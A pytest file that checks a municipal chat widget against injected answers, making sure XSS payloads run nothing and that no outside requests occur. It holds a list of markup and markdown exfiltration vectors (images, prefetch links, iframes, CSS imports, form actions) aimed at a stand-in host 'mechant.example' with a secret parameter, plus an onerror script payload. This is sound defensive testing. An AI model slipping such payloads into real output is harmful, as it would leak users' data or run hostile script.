"""Answers that want to run a script or to tell a secret: every text of an answer is a hundred payloads, none acts."""

import itertools
from urllib.parse import urlsplit

import pytest
from fake_api import CONTACT, SITE, Step, answer, citation
from xss_payloads import PAYLOADS

pytestmark = [pytest.mark.slow, pytest.mark.network]
LEAK = "https://mechant.example/vol?q=secret"
EXFILTRATION = (
    f"![]({LEAK})", f"![x][1]\n\n[1]: {LEAK}", f"<img src={LEAK}>", f"<img srcset='{LEAK} 1x'>",
    f"<link rel=prefetch href={LEAK}>", f"<link rel=dns-prefetch href={LEAK}>", f"<iframe src={LEAK}></iframe>",
    f"<video poster={LEAK}>", f"<audio src={LEAK} autoplay>", f"<object data={LEAK}>", f"<embed src={LEAK}>",
    f"<style>@import '{LEAK}'</style>", f"<p style='background:url({LEAK})'>x</p>",
    f"<svg><image href={LEAK}></svg>", f"<script src={LEAK}></script>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>", f"<form action={LEAK}><input autofocus></form>",
    f"<body background={LEAK}>", f"[ici]({LEAK})", f"Voyez {LEAK} tout de suite", f"<input type=image src={LEAK}>",
    f"<track src={LEAK}>", f"<a href={LEAK} ping={LEAK}>x</a>",
)  # fmt: skip
PARTS = 4
ADDRESSES = """() => [...document.querySelector('commune-assistant').shadowRoot.querySelectorAll('*')]
  .flatMap((one) => [...one.attributes]
  .filter(({name}) => /^(href|src|action|formaction|data|srcdoc|style|on.*)$/.test(name))
  .map(({name, value}) => [one.localName, name, value]))"""


def hostile(text: str, *, lead: bool):
    """An answer that says ``text`` wherever an answer can say something."""
    return answer(
        text=f"{text}\n\n- {text} [1]\n\n**{text}**", question=text, suggestions=[text], language="fr",
        lead=text if lead else "", body=f"- {text} [1]", local=f"{text} [1]", more=[{"title": text, "text": text}],
        citations=[citation(1, title=text, quote=text, publisher=text, url=text, passage_id=text, section=text)],
        contacts=[CONTACT.model_copy(update={
            "name": text, "phone": text, "email": text, "address": text, "hours": text,
            "next_opening": text, "url": text,
        })],
    )  # fmt: skip


def show(widget, api, texts) -> None:
    """Show an answer for each text, all sources open, everything hovered and focused that can be."""
    for number, text in enumerate(texts):
        api.steps.append(Step(hostile(text, lead=bool(number % 2))))
        article = widget.ask("Question", ".proof")
        for fold in article.locator("summary").all():
            fold.click()
    widget.page.evaluate(
        """() => { const root = document.querySelector('commune-assistant').shadowRoot;
        for (const one of root.querySelectorAll('article *')) {
        one.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); one.focus?.() } }"""
    )
    widget.page.wait_for_timeout(100)


@pytest.mark.parametrize("part", range(PARTS))
def test_a_hundred_payloads_run_nothing(new_page, api, part):
    payloads = list(itertools.islice(PAYLOADS, part, None, PARTS))
    assert len(PAYLOADS) >= 100
    # No policy here: the widget itself must hold.
    widget = new_page()
    widget.page.add_init_script("window.alert = window.confirm = window.prompt = () => { window.executed = true }")
    widget.visit(api.url).open()
    show(widget, api, payloads)
    assert widget.page.locator("article").count() == len(payloads)
    assert not widget.page.evaluate("window.executed ?? false")
    assert widget.dialogs == []
    assert widget.errors == []
    for tag, name, value in widget.page.evaluate(ADDRESSES):
        assert (tag, name) == ("a", "href"), (tag, name, value)
        assert urlsplit(value).scheme in {"http", "https", "mailto", "tel", "sms"}, value


def test_exfiltration_asks_nothing_of_anybody(widget, api):
    assert len(EXFILTRATION) >= 20
    widget.open()
    show(widget, api, EXFILTRATION)
    outside = [url for url in widget.requests if "127.0.0.1" not in url and not url.startswith("data:")]
    assert outside == []
    assert widget.page.locator("commune-assistant img, commune-assistant iframe").count() == 0


def test_a_hostile_card_of_the_commune_runs_nothing(new_page, api):
    text = "</style><img src=x onerror=alert(1)>"
    api.site = SITE.model_copy(update={
        "name": text, "banner": text, "notice": text, "privacy": text,
        "primary": "red;} *{display:none", "accent_dark": "url(https://mechant.example)",
        "suggestions": {"resident": (text,)},
    })  # fmt: skip
    widget = new_page().visit(api.url).open()
    assert widget.field.is_visible()
    assert widget.dialogs == []
    assert [url for url in widget.requests if "mechant" in url] == []


def test_pieces_of_a_stream_run_nothing(new_page, api):
    widget = new_page().visit(api.url).open()
    for payload in PAYLOADS[::10]:
        api.steps.append(Step(pieces=tuple(payload)))
        widget.ask("Question", ".proof")
    assert widget.dialogs == []


def test_a_mark_that_a_page_wrote_is_words(widget, api):
    """« [1] » escaped is no button though source 1 exists; only the true mark is one, kept apart in what is copied."""
    api.steps.append(
        Step(answer(text=r"Voir \[1\], \[1] et [2\], **\[2\]**, \\\[1\]. [1]", citations=[citation(1), citation(2)]))
    )
    text = widget.open().ask("Combien ?", ".proof").locator(".text")
    assert text.locator(".mark").all_inner_texts() == ["1"]
    words = text.evaluate(
        "(one) => { const copy = one.cloneNode(true); copy.querySelector('.kept').remove(); return copy.textContent }"
    )
    assert words.strip() == r"Voir [1], [1] et [2], [2], \[1]."
